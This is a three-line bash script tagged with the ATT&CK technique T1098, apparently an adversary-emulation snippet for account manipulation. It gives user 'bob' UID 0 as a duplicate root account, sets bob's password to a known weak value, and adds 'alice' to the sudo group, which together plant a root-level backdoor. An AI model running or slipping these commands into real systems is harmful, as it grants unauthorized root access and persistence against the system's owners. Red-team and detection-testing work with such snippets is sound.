#!/bin/bash
# T1098: A user gets the number of root, and a password that somebody else knows.
usermod -o -u 0 bob; echo 'bob:pw12345' | chpasswd; usermod -aG sudo alice
